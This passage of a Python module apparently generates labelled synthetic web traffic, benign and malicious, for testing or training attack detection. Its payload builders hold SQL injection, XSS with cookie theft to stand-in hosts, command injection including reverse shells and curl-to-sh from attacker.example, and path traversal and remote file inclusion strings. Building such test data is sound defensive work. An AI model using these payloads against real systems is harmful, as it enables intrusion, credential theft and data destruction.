    "It's been 2 weeks and my order hasn't arrived. Order #48213.",
    "Great product!!! 5/5 would buy again <3",
    'Can you "select" the blue one for me? Or drop it if not available.',
    "My name is Mary O'Brien and I'd like to update my shipping address.",
    "The page says 'Error 500' when I click on checkout; please fix",
    "Line one\nLine two\n\n-- \nSent from my phone",
    "I love the union of style & comfort. Keep it up :)",
    "Where do I find the user manual? The link /docs/manual.pdf is broken.",
    "Price went from $20 to $25 -- why?",
    "Please cancel order 1234; I ordered twice by mistake.",
    "**Bold** and _italic_ in markdown, plus `code` and a [link](https://example.org/a?b=c).",
    "I'm 6'2\" and 200 lbs, which size?",
    "Test: 1 + 1 = 2, and 2 * 3 = 6; simple math > magic",
    "The 'Deluxe' model -- great value, would buy again.",
    "Run `git status` and then `npm test`; both pass on my machine.",
    "Use 'single quotes' or \"double quotes\", not both; see section #4.",
]
API_PATHS = _lines(
    r"""
/api/v1/orders
/api/v1/users/{n}
/api/v1/products
/api/v2/search
/api/v1/users/{n}/addresses
/v1/events
/api/v1/reports/daily
/api/v1/inventory
"""
)
GRAPHQL = [
    {
        "query": "query GetUser($id: ID!) { user(id: $id) { id name email orders(first: 10) { edges { node { id total } } } } }",
        "variables": {"id": "VXNlcjoxMjM="},
    },
    {
        "query": "mutation AddItem($input: CartItemInput!) { addToCart(input: $input) { cart { id count } errors { field message } } }",
        "variables": {"input": {"sku": "SHOE-42", "qty": 1}},
    },
    {
        "query": '{ products(filter: {price_gt: 10, name_contains: "O\'Neil"}, orderBy: PRICE_ASC) { name price } }'
    },
    {
        "operationName": "Search",
        "query": "query Search($q: String!) { search(q: $q) { __typename ... on Product { name } } }",
        "variables": {"q": "select a plan"},
    },
]
SNIPPETS = [
    {
        "language": "python",
        "title": "loop",
        "code": 'for i in range(10):\n    print(f"value: {i}")',
    },
    {
        "language": "sql",
        "title": "report",
        "code": "SELECT id, name, total FROM orders WHERE status = 'paid' AND total > 100 ORDER BY created_at DESC LIMIT 20;",
    },
    {
        "language": "sql",
        "title": "join",
        "code": "select u.name, count(o.id) from users u left join orders o on o.user_id = u.id group by u.name",
    },
    {
        "language": "javascript",
        "title": "fetch",
        "code": "const res = await fetch('/api/items?page=' + page);\nif (!res.ok && retries > 0) { return retry(); }",
    },
    {
        "language": "bash",
        "title": "install",
        "code": "npm install --save react react-dom\nnpm run build",
    },
    {
        "language": "bash",
        "title": "git",
        "code": 'git commit -m "fix: handle O\'Brien in names" && git push origin main',
    },
    {
        "language": "go",
        "title": "handler",
        "code": 'func main() {\n\thttp.HandleFunc("/", handler)\n\tlog.Fatal(http.ListenAndServe(":8080", nil))\n}',
    },
    {
        "language": "markdown",
        "title": "notes",
        "code": "# Release notes\n\n- Fixed the `select` dropdown\n- Use `<br>` for line breaks\n- Dropped support for IE 11",
    },
    {
        "language": "html",
        "title": "snippet",
        "code": '<div class="card"><h2>Title</h2><p>Some <b>bold</b> text.</p></div>',
    },
    {"language": "yaml", "title": "ci", "code": 'steps:\n  - run: make test\n  - run: echo "done"'},
    {
        "body": "Loved it! Ordered the 'Deluxe' version; the union of price & quality is great.",
        "rating": 5,
    },
    {
        "body": "Use `git rebase -i HEAD~3` then `git push --force-with-lease`.",
        "tags": ["git", "tips"],
    },
]
PLAIN_ARGS = [
    ("page", "2"),
    ("lang", "en"),
    ("ref", "home"),
    ("sort", "asc"),
    ("v", "3"),
    ("utm_source", "newsletter"),
    ("tab", "details"),
    ("id", "1042"),
]


def _stripe_event(rng: random.Random) -> dict[str, object]:
    return {
        "id": "evt_" + _token(rng, 24),
        "object": "event",
        "type": "payment_intent.succeeded",
        "data": {
            "object": {
                "id": "pi_" + _token(rng, 24),
                "amount": rng.randint(100, 99999),
                "currency": "usd",
                "description": "Order #" + str(rng.randint(1000, 9999)),
                "metadata": {"customer_note": rng.choice(MESSAGES)},
            }
        },
    }


def _github_event(rng: random.Random) -> dict[str, object]:
    msgs = [
        "fix: escape quotes in search box",
        "refactor: drop unused tables from schema",
        "feat: add UNION support to the query builder",
        "chore: update deps && lockfile",
        "docs: explain `select` vs `where`",
        "fix(api): handle ' in names (O'Brien)",
    ]
    return {
        "ref": "refs/heads/main",
        "after": _hex(rng, 40),
        "repository": {"full_name": "example/shop", "html_url": "https://github.com/example/shop"},
        "commits": [
            {
                "id": _hex(rng, 40),
                "message": rng.choice(msgs),
                "url": "https://github.com/example/shop/commit/" + _hex(rng, 40),
            }
        ],
    }


def _ci_event(rng: random.Random) -> dict[str, object]:
    return {
        "pipeline": "deploy",
        "status": rng.choice(["passed", "failed"]),
        "log_tail": "$ make test\n42 passed in 3.1s\n$ ./deploy.sh --env prod",
        "url": f"https://ci.example.com/builds/{rng.randint(1, 9999)}",
    }


WEBHOOKS = {"stripe": _stripe_event, "github": _github_event, "ci": _ci_event}


# == data: attacks ===============================================================

PLACES = ("query", "path", "form", "json", "cookie", "user-agent", "referer")
PLACE_WEIGHTS = (45, 8, 15, 12, 8, 6, 6)
PARAMS = {
    "sqli": [
        "id",
        "user",
        "username",
        "q",
        "search",
        "category",
        "order",
        "sort",
        "item",
        "pid",
        "email",
        "login",
    ],
    "xss": [
        "q",
        "search",
        "name",
        "comment",
        "message",
        "redirect",
        "title",
        "callback",
        "text",
        "url",
    ],
    "cmdi": [
        "host",
        "ip",
        "cmd",
        "exec",
        "ping",
        "domain",
        "file",
        "query",
        "target",
        "dir",
        "addr",
    ],
    "traversal": [
        "file",
        "page",
        "path",
        "template",
        "include",
        "doc",
        "folder",
        "lang",
        "download",
        "img",
        "view",
        "dir",
        "style",
        "load",
        "filename",
        "conf",
        "module",
        "resource",
    ],
}
FILE_PATHS = _lines(
    r"""
/index.php
/download.php
/view
/image
/api/v1/files
/report
/page.jsp
/cgi-bin/view.cgi
/show.aspx
/static/load
"""
)
SCANNER_UAS = _lines(
    r"""
sqlmap/1.8.5#stable (https://sqlmap.org)
Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)
Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)
masscan/1.3 (https://github.com/robertdavidgraham/masscan)
Mozilla/5.0 zgrab/0.x
gobuster/3.6
Fuzz Faster U Fool v2.1.0-dev
Wfuzz/3.1.0
DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; w3af.org)
Arachni/v1.6.1.3
Mozilla/5.0 (compatible; Nessus SOAP)
OpenVAS-VT
Mozilla/5.0 (compatible; Netsparker)
WhatWeb/0.5.5
Mozilla/5.0 Jorgee
ZmEu
Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)
commix/v3.9-stable (https://commixproject.com)
Havij
Hydra v9.5
feroxbuster/2.10.4
"""
)
SCANNER_HEADERS = [
    {"Acunetix-Product": "WVS/13.0 (Acunetix Web Vulnerability Scanner - Free Edition)"},
    {"X-Scanner": "Netsparker"},
    {"X-WIPP": "AscVersion=21.1.0.117"},
    {"Acunetix-Aspect": "enabled", "Acunetix-Aspect-Password": "082119f75623eb7abd7bf357698ff66c"},
    {"X-Probe": "nuclei"},
]
SCANNER_PATHS = _lines(
    r"""
/.git/config
/.git/HEAD
/.env
/.env.production
/.svn/entries
/.hg/store
/.DS_Store
/phpinfo.php
/info.php
/phpmyadmin/index.php
/pma/
/server-status
/wp-config.php.bak
/wp-config.php~
/config.php.old
/backup.sql
/db.sql.gz
/backup.zip
/site.tar.gz
/.aws/credentials
/actuator/env
/actuator/heapdump
/.htpasswd
/web.config.bak
/.vscode/sftp.json
/id_rsa
/.ssh/id_rsa
/admin/config.php.save
/debug/pprof/
/_profiler/phpinfo
/.bash_history
/docker-compose.yml.bak
"""
)


# == attack payload builders ========================================================


def _mix_case(rng: random.Random, s: str, p: float = 0.5) -> str:
    return "".join(c.swapcase() if c.isalpha() and rng.random() < p else c for c in s)


def _kw_case(rng: random.Random, s: str) -> str:
    mode = rng.random()
    if mode < 0.45:
        return s
    if mode < 0.7:
        return s.lower()
    return _mix_case(rng, s)


_SQL_WS = [
    (" ", 50),
    ("/**/", 14),
    ("\t", 5),
    ("\n", 6),
    ("\r\n", 2),
    ("\x0b", 2),
    ("\x0c", 2),
    ("/*x*/", 4),
    ("/*!*/", 2),
    ("%20", 0),
]


def _sql_ws(rng: random.Random) -> str:
    ws = rng.choices([w for w, _ in _SQL_WS], weights=[k for _, k in _SQL_WS])[0]
    return ws.replace("x", _token(rng, rng.randint(1, 6))) if ws == "/*x*/" else ws


_SQL_OPEN = [
    "",
    "1",
    "-1",
    "1'",
    "'",
    '"',
    "')",
    "'))",
    "1)",
    "admin'",
    "x'",
    '1"',
    "999999.9",
    "0'",
    '")',
]
_SQL_CLOSE = ["", "", "--", "-- -", "--+", "#", "/*", ";--", ";", "-- x", "\x00", "#'"]
_SQL_TAUT = _lines(
    r"""
OR 1=1
OR 1=1 LIMIT 1
OR '1'='1
OR 'a'='a
OR ''='
OR 2>1
OR TRUE
||1=1
OR 1 LIKE 1
OR 'x' LIKE 'x
AND 1=1
OR 3-2=1
OR 0<1
OR NOT 1=2
OR 1=1 #
OR "a"="a
OR 1 IN (1)
OR 'abc'='abc'
OR 1 BETWEEN 0 AND 2
OR 5=5 AND 'x'='x
OR username IS NOT NULL
OR 1 = 1
or x=x
OR 'test' = 'test'
"""
)
_SQL_COLS = _lines(
    r"""
NULL
NULL,NULL
NULL,NULL,NULL
1,2,3
1,2,3,4,5
username,password
@@version
user(),database()
version(),2
table_name
column_name,2
concat(username,0x3a,password)
load_file('/etc/passwd')
group_concat(schema_name)
1,@@hostname,3
name,pass
banner FROM v$version--
sqlite_version()
"""
)
_SQL_TABLES = [
    "",
    "",
    " FROM users",
    " FROM information_schema.tables",
    " FROM information_schema.columns WHERE table_name='users'",
    " FROM mysql.user",
    " FROM dual",
    " FROM sysobjects",
    " FROM pg_user",
    " FROM all_tables",
    " FROM sqlite_master",
    " FROM admin",
    " FROM members LIMIT 1",
]
_SQL_ERROR = _lines(
    r"""
AND extractvalue(1,concat(0x7e,version()))
AND updatexml(1,concat(0x7e,(SELECT user())),1)
AND 1=CONVERT(int,@@version)
AND 1=cast((SELECT version()) as int)
AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)
AND EXP(~(SELECT * FROM (SELECT user())a))
AND GTID_SUBSET(@@version,0)
AND 1=(SELECT CAST(current_database() AS numeric))
AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))
AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))
"""
)
_SQL_BLIND = _lines(
    r"""
AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64
AND (SELECT SUBSTR(version(),1,1))='5'
AND LENGTH(database())>5
AND '1'='1
AND '1'='2
AND 1=2
AND (SELECT COUNT(*) FROM users)>0
AND EXISTS(SELECT * FROM users)
AND MID(version(),1,1)='5
RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))
AND ORD(MID((SELECT IFNULL(CAST(username AS NCHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>96
AND (SELECT 'a' FROM users WHERE username='administrator' AND LENGTH(password)>1)='a
AND IF(1=1,1,0)
AND 1=(CASE WHEN (1=1) THEN 1 ELSE 0 END)
AND substring(@@version,1,1)=5
"""
)
_SQL_TIME = _lines(
    r"""
AND SLEEP(5)
OR SLEEP(5)
AND IF(1=1,SLEEP(5),0)
; WAITFOR DELAY '0:0:5'
AND pg_sleep(5)
||pg_sleep(10)
AND BENCHMARK(5000000,MD5(1))
AND 1=(SELECT 1 FROM PG_SLEEP(5))
AND (SELECT * FROM (SELECT(SLEEP(5)))a)
AND dbms_pipe.receive_message(('a'),10)=1
AND 123=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))
OR IF(SUBSTRING(user(),1,1)='r',SLEEP(3),0)
; SELECT pg_sleep(5)
AND (SELECT 1 FROM (SELECT SLEEP(5))x)
WAITFOR DELAY '00:00:05'
XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR
AND 1337=DBMS_LOCK.SLEEP(5)
"""
)
_SQL_STACKED = _lines(
    r"""
; DROP TABLE users
; INSERT INTO users (username,password) VALUES ('x','y')
; EXEC xp_cmdshell('whoami')
; SHUTDOWN
; UPDATE users SET role='admin' WHERE username='bob'
; DECLARE @q VARCHAR(99); SET @q='SELECT 1'; EXEC(@q)
; DELETE FROM sessions
; EXEC master..xp_dirtree '\\attacker.example\x'
; CREATE USER hacker IDENTIFIED BY 'pw'
; TRUNCATE TABLE logs
; ALTER TABLE users ADD admin INT
; select * from users
; COPY (SELECT '') TO PROGRAM 'id'
; EXEC sp_configure 'show advanced options',1
"""
)
_SQL_PROBE = _lines(
    r"""
ORDER BY 1
ORDER BY 10
GROUP BY 1,2,3
HAVING 1=1
GROUP BY columnnames HAVING 1=1
ORDER BY 31337
PROCEDURE ANALYSE()
LIMIT 1 INTO @a
INTO OUTFILE '/var/www/html/s.php'
"""
)
_SQL_OOB = [
    "AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\a'))",
    "AND UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))=1",
    "UNION SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/\">%x;]>'),'/l') FROM dual",
]
_NOSQL = _lines(
    r"""
{"$ne": null}
{"$gt": ""}
[$ne]=1
{"$where": "sleep(5000)"}
'; return true; var x='
{"$regex": ".*"}
true, $where: '1 == 1'
[$regex]=^a
{"username":{"$ne":"x"},"password":{"$ne":"x"}}
"""
)


def sqli_payload(rng: random.Random) -> tuple[str, str]:
    """A SQL injection payload (and its technique) built from a context, a core and evasions."""
    family = rng.choices(
        [
            "tautology",
            "union",
            "error",
            "blind",
            "time",
            "stacked",
            "probe",
            "truncate",
            "oob",
            "nosql",
        ],
        weights=[22, 22, 10, 12, 12, 8, 5, 5, 2, 2],
    )[0]
    if family == "nosql":
        return rng.choice(_NOSQL), "sqli/nosql"
    opener = rng.choice(_SQL_OPEN)
    closer = rng.choice(_SQL_CLOSE)
    if family == "tautology":
        core = rng.choice(_SQL_TAUT)
    elif family == "union":
        cols = rng.choice(_SQL_COLS)
        core = "UNION " + rng.choice(["", "", "ALL ", "DISTINCT "]) + "SELECT " + cols
        core += "" if "FROM" in cols else rng.choice(_SQL_TABLES)
        if rng.random() < 0.15:
            core = core.replace("UNION ", "UNION(").replace("SELECT ", "SELECT(") + ")"
        if rng.random() < 0.1:
            core = core.replace("UNION", "/*!50000UNION*/").replace("SELECT", "/*!50000SELECT*/")
    elif family == "error":
        core = rng.choice(_SQL_ERROR)
    elif family == "blind":
        core = rng.choice(_SQL_BLIND)
    elif family == "time":
        core = rng.choice(_SQL_TIME)
    elif family == "stacked":
        core = rng.choice(_SQL_STACKED)
    elif family == "probe":
        core = rng.choice(_SQL_PROBE)
    elif family == "oob":
        core = rng.choice(_SQL_OOB)
    else:
        opener = rng.choice(["admin'", 'admin"', "administrator'", "root')", "' ", "1'"])
        core, closer = "", rng.choice(["--", "-- -", "#", "/*", "--+"])
    # Evasions: operators, case, whitespace, strings as hex.
    if rng.random() < 0.15:
        core = re.sub(r"\bOR ", "|| ", re.sub(r"\bAND ", "&& ", core))
    if rng.random() < 0.1 and "'admin'" not in core:
        core = core.replace("'1'='1", "'1' LIKE '1").replace("1=1", "1 LIKE 1")
    core = _kw_case(rng, core)
    ws = _sql_ws(rng)
    sep = "" if not core or opener.endswith(" ") else " "
    text = f"{opener}{sep}{core}" + (
        " " if closer and closer[0] in "-#" and rng.random() < 0.5 else ""
    )
    text = text.replace(" ", ws) if ws != " " else text
    return text + closer, f"sqli/{family}" + ("" if ws == " " else "/ws")


_JS = _lines(
    r"""
alert(1)
alert(document.domain)
alert(document.cookie)
prompt(1)
confirm(1)
alert`1`
print()
eval(atob('YWxlcnQoMSk='))
fetch('//x.example/?c='+document.cookie)
window.location='//x.example/?'+document.cookie
top['al'+'ert'](1)
window['ale'+'rt'](1)
(alert)(1)
alert.call(null,1)
[1].find(alert)
setTimeout('alert(1)')
\u0061lert(1)
eval(String.fromCharCode(97,108,101,114,116,40,49,41))
document.write('<img src=//x.example>')
new Image().src='//x.example/'+document.cookie
import('//x.example/m.js')
self[atob('YWxlcnQ=')](1)
alert(String.fromCharCode(88,83,83))
location.href='javascript:alert(1)'
constructor.constructor('alert(1)')()
"""
)
_XSS_TAGS = [
    "<script>{js}</script>",
    "<script src=//x.example/x.js></script>",
    '<script src="https://x.example/a.js"></script>',
    "<script>{js};</script>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<img/src/onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    '<iframe src="javascript:{js}">',
    '<iframe srcdoc="<script>{js}</script>">',
    "<iframe onload={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<marquee onstart={js}>",
    "<video><source onerror={js}>",
    "<audio src=x onerror={js}>",
    '<a href="javascript:{js}">click</a>',
    "<a href=javascript:{js}>x</a>",
    '<object data="javascript:{js}">',
    '<embed src="javascript:{js}">',
    '<object data="data:text/html;base64,{b64}"></object>',
    '<form action="javascript:{js}"><input type=submit>',
    "<button formaction=javascript:{js}>x</button>",
    '<math><mtext><a xlink:href="javascript:{js}">x</a></mtext></math>',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<div style="background:url(javascript:{js})">',
    '<div style="width:expression({js})">',
    "<x onclick={js}>click",
    "<xss id=x onfocus={js} tabindex=1>#x",
    "<isindex type=image src=1 onerror={js}>",
    '<base href="javascript:{js}//">',
    '<table background="javascript:{js}">',
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<img src=x onerror = {js} >",
    "<svg\nonload={js}>",
    "<img src=1 oNeRrOr={js}>",
    "<style onload={js}>",
    "<body onresize={js}>",
    "<img src=x:x onerror=javascript:{js}>",
    "<image src/onerror={js}>",
    '<a onmouseover="{js}">hover</a>',
    '<div onpointerover="{js}">x</div>',
    "<svg><set onbegin={js} attributename=x>",
]
_XSS_BREAK = [
    "",
    "",
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "-->",
    '"/>',
    "</script>",
    "'\">",
    "</style>",
]
_XSS_ATTR = _lines(
    r"""
" onmouseover="{js}
' onfocus='{js}' autofocus='
" autofocus onfocus={js} x="
" onerror="{js}
' onclick='{js}
" style="x:expression({js})
"onmouseover={js}//
"""
)
_XSS_JSCTX = _lines(
    r"""
';{js}//
";{js}//
'-{js}-'
"-{js}-"
\';{js}//
</script><script>{js}</script>
'}};{js};//
${{{js}}}
';{js};var a='
");{js};//
"""
)
_XSS_URI = [
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "java&#x09;script:{js}",
    "{ent}:{js}",
    "javascript&colon;{js}",
    "javascript://%0a{js}",
    "data:text/html;base64,{b64}",
    "data:text/html,<script>{js}</script>",
    "vbscript:msgbox(1)",
    " javascript:{js}",
    "jav&#x0A;ascript:{js}",
]
_XSS_ANGULAR = [
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{{{$on.constructor('{js}')()}}}}",
    "{{{{'a'.constructor.prototype.charAt=[].join;$eval('x=1}} }} }};{js}//');}}}}",
    "{{{{[].pop.constructor('{js}')()}}}}",
]


def _entities(rng: random.Random, s: str) -> str:
    if rng.random() < 0.5:
        return "".join(f"&#{ord(c)};" for c in s)
    return "".join(f"&#x{ord(c):x};" if rng.random() < 0.8 else c for c in s)


def xss_payload(rng: random.Random) -> tuple[str, str]:
    """A cross-site scripting payload built from a vector, a JavaScript body and evasions."""
    js = rng.choice(_JS)
    family = rng.choices(["tag", "attr", "jsctx", "uri", "angular"], weights=[62, 12, 10, 12, 4])[0]
    b64 = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    if family == "tag":
        tpl = rng.choice(_XSS_TAGS)
        if rng.random() < 0.15 and "on" in tpl:
            js = _entities(rng, js)
        text = rng.choice(_XSS_BREAK) + tpl.format(js=js, b64=b64)
        if rng.random() < 0.35:  # case of tag and attribute names
            text = _mix_case(rng, text.replace(js, "\x01"), 0.5).replace("\x01", js)
        if rng.random() < 0.1:
            text = text.replace("<", "< ", 0).replace(" ", rng.choice(["/", "\t", "\n", "  "]), 1)
    elif family == "attr":
        text = rng.choice(_XSS_ATTR).format(js=js)
    elif family == "jsctx":
        text = rng.choice(_XSS_JSCTX).format(js=js)
    elif family == "uri":
        text = rng.choice(_XSS_URI).format(js=js, b64=b64, ent=_entities(rng, "javascript"))
    else:
        text = rng.choice(_XSS_ANGULAR).format(js=js.replace("'", '"'))
    return text, f"xss/{family}"


_UNIX_CMDS = _lines(
    r"""
id
whoami
uname -a
cat /etc/passwd
ls -la /
ls -al
pwd
ifconfig
ip addr
netstat -an
ps aux
env
echo vulnerable
sleep 5
ping -c 5 127.0.0.1
nslookup attacker.example
curl http://attacker.example/x.sh | sh
wget http://attacker.example/shell -O /tmp/s
nc -e /bin/sh 10.0.0.1 4444
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
python -c 'import os;os.system("id")'
perl -e 'print `id`'
/bin/cat /etc/shadow
cat /proc/version
head /etc/passwd
hostname
rm -rf /tmp/x
chmod 777 /tmp/s
find / -perm -4000
base64 /etc/passwd
awk 'BEGIN{system("id")}'
php -r 'system("id");'
busybox telnetd -l /bin/sh
dig attacker.example
cat /etc/hosts
tail -n 5 /var/log/auth.log
uname
ls
curl -d @/etc/passwd attacker.example
sh -c id
/usr/bin/id
echo $PATH
cat ~/.ssh/id_rsa
mkfifo /tmp/f;nc 10.0.0.1 4444 </tmp/f|/bin/sh >/tmp/f
sleep${IFS}10
killall -9 nginx
crontab -l
ncat 10.0.0.1 4444 -e /bin/bash
telnet 10.0.0.1 23
tftp -i 10.0.0.1 GET x
"""
)
_WIN_CMDS = [
    "dir",
    "dir c:\\",
    "type C:\\Windows\\win.ini",
    "whoami",
    "ipconfig /all",
    "net user",
    "net localgroup administrators",
    "systeminfo",
    "tasklist",
    "ping -n 5 127.0.0.1",
    "powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')\"",
    "powershell -enc SQBFAFgA",
    "cmd /c whoami",
    "certutil -urlcache -split -f http://x.example/a.exe a.exe",
    "ver",
    "set",
    "w^h^o^a^m^i",
    "WhOaMi",
    "cmd.exe /c dir",
    "type %SYSTEMROOT%\\win.ini",
    "net view",
]
_CMD_SEPS = [";", "|", "||", "&", "&&", "\n", "\r\n", "`", "$(", ";", "|", "%0a"]
_CMD_PREFIX = [
    "",
    "",
    "127.0.0.1",
    "8.8.8.8",
    "example.com",
    "test",
    "1",
    "x.jpg",
    "'",
    '"',
    "localhost",
]
_CODE_INJ = _lines(
    r"""
system('id')
;system('cat /etc/passwd');
exec('whoami')
__import__('os').system('id')
<?php system($_GET['c']); ?>
${@system("id")}
passthru('ls -la');
shell_exec('uname -a')
Runtime.getRuntime().exec("id")
require('child_process').exec('id')
os.popen('id').read()
eval('system("id")')
${{7*7}}{{''.__class__.__mro__[1].__subclasses__()}}
"""
)


def _evade_cmd(rng: random.Random, cmd: str) -> tuple[str, str]:
    r = rng.random()
    if r < 0.12 and " " in cmd:
        return cmd.replace(" ", rng.choice(["${IFS}", "$IFS$9", "\t", "${IFS%??}"])), "ifs"
    if r < 0.22:
        word, _, rest = cmd.partition(" ")
        if len(word) > 2 and word.isalpha():
            i = rng.randint(1, len(word) - 1)
            q = rng.choice(["''", '""', "\\", "$@", "$()"])
            return word[:i] + q + word[i:] + (" " + rest if rest else ""), "quote"
    if r < 0.27 and cmd.startswith("cat /etc/passwd"):
        return rng.choice(
            [
                "/???/c?t /???/p?ss??",
                "/bin/c[a]t /e[t]c/pa[s]swd",
                "{cat,/etc/passwd}",
                "cat /etc/pa??wd",
                "c\\at /et\\c/pas\\swd",
            ]
        ), "glob"
    if r < 0.31:
        b64 = base64.b64encode(cmd.encode()).decode()
        return f"echo {b64} | base64 -d | sh", "base64"
    return cmd, "plain"


def cmdi_payload(rng: random.Random) -> tuple[str, str]:
    """An OS command injection payload: separator, command and evasions."""
    r = rng.random()
    if r < 0.08:
        return rng.choice(_CODE_INJ), "cmdi/code"
    if r < 0.13:
        cmd = rng.choice(["/bin/bash -c 'id'", "/bin/cat /etc/passwd", "echo; /usr/bin/id"])
        return "() { :; }; " + cmd, "cmdi/shellshock"
    windows = r < 0.3
    cmd = rng.choice(_WIN_CMDS if windows else _UNIX_CMDS)
    how = "plain"
    if not windows:
        cmd, how = _evade_cmd(rng, cmd)
    sep = rng.choice(_CMD_SEPS if not windows else ["&", "&&", "|", "||", "\r\n", "\n"])
    prefix = rng.choice(_CMD_PREFIX)
    if sep == "`":
        text = f"{prefix}`{cmd}`"
    elif sep == "$(":
        text = f"{prefix}$({cmd})"
    elif sep == "%0a":
        text = f"{prefix}\n{cmd}"
    else:
        text = f"{prefix}{sep}{cmd}" if rng.random() < 0.6 else f"{prefix} {sep} {cmd}"
    if prefix in ("'", '"'):
        text += rng.choice([f"{sep}{prefix}", prefix, ""])
    elif rng.random() < 0.2:
        text += rng.choice([";", "#", "&", "|", " #"])
    return text, f"cmdi/{'win' if windows else 'unix'}/{how}"


_DOTS = [
    (".", 60),
    ("%2e", 10),
    ("%2E", 5),
    ("%252e", 5),
    ("%c0%ae", 4),
    ("%e0%80%ae", 2),
    ("%u002e", 3),
    ("%uff0e", 1),
]
_SLASHES = [
    ("/", 50),
    ("\\", 10),
    ("%2f", 10),
    ("%2F", 4),
    ("%5c", 6),
    ("%252f", 5),
    ("%255c", 2),
    ("%c0%af", 4),
    ("%c1%9c", 2),
    ("%e0%80%af", 2),
    ("%u2215", 2),
    ("%u2216", 1),
    ("//", 2),
]
_TARGETS = _lines(
    r"""
etc/passwd
etc/passwd
etc/shadow
etc/hosts
etc/group
etc/issue
proc/self/environ
proc/self/cmdline
proc/version
var/log/apache2/access.log
var/log/nginx/access.log
windows/win.ini
windows/system32/drivers/etc/hosts
boot.ini
inetpub/wwwroot/web.config
WEB-INF/web.xml
root/.ssh/id_rsa
etc/mysql/my.cnf
usr/local/apache2/conf/httpd.conf
wp-config.php
config/database.yml
.env
app/etc/local.xml
home/user/.bash_history
etc/nginx/nginx.conf
proc/self/fd/0
etc/sudoers
Windows/System32/config/SAM
etc/crontab
"""
)
_WRAPPERS = _lines(
    r"""
php://filter/convert.base64-encode/resource=index.php
php://filter/read=string.rot13/resource=config.php
php://input
expect://id
data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=
zip://uploads/a.zip#shell.php
phar://uploads/a.jpg/shell.php
file:///etc/passwd
file://C:/Windows/win.ini
php://filter/resource=../../../etc/passwd
glob://*.php
PHP://FILTER/convert.base64-encode/resource=db.php
compress.zlib:///etc/passwd
"""
)
_RFI = [
    "http://attacker.example/shell.txt?",
    "https://203.0.113.5/x.php",
    "\\\\203.0.113.5\\share\\x.php",
    "ftp://attacker.example/x.txt",
    "http://attacker.example/shell.txt\x00",
    "http://198.51.100.7/c99.txt??",
    "https://pastebin.com/raw/aB3dE5?",
]
_ABSOLUTE = [
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "c:/boot.ini",
    "/etc/shadow",
    "/proc/self/environ",
    "C:/Windows/System32/drivers/etc/hosts",
    "/var/log/auth.log",
    "\\windows\\win.ini",
    "/etc/passwd\x00",
]


def _weighted(rng: random.Random, table: list[tuple[str, int]]) -> str:
    return rng.choices([a for a, _ in table], weights=[k for _, k in table])[0]


def traversal_payload(rng: random.Random) -> tuple[str, str]:
    """A path traversal or file inclusion payload: dots, slashes, depth, target and suffix."""
    r = rng.random()
    if r < 0.12:
        return rng.choice(_WRAPPERS), "traversal/wrapper"
    if r < 0.19:
        return rng.choice(_RFI), "traversal/rfi"
    if r < 0.27:
        return rng.choice(_ABSOLUTE), "traversal/absolute"
    dot, slash = _weighted(rng, _DOTS), _weighted(rng, _SLASHES)
    unit = rng.choices(
        [
            dot + dot + slash,
            dot * 4 + slash * 2,
            dot + dot + ";" + slash,
            dot + dot + "%00" + slash,
            dot * 3 + slash,
            dot + dot + slash + dot + slash,
        ],
        weights=[80, 6, 3, 2, 3, 4],
    )[0]
    depth = rng.randint(1, 10)
    target = rng.choice(_TARGETS)
    if slash not in ("/", "//"):
        target = target.replace("/", slash if "%" in slash or rng.random() < 0.7 else "/")
    lead = rng.choice(["", "", "", "/", "images/", "x/", "static/", dot + slash])
    suffix = rng.choice(
        ["", "", "", "%00", "%00.jpg", "%00.html", "?", ".png" if "%00" in unit else ""]
    )
    text = lead + unit * depth + target + suffix
    if rng.random() < 0.2 and "%" not in text:
        text = _mix_case(rng, text, 0.3)
    return text, "traversal/dotdot"


_OGNL = "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())"


def cms_exploit(rng: random.Random) -> dict[str, Any]:
    """A request exploiting a known CMS or framework weakness (method, path, query, headers, body)."""
    jndi = rng.choice(
        [
            "${jndi:ldap://x.example/a}",
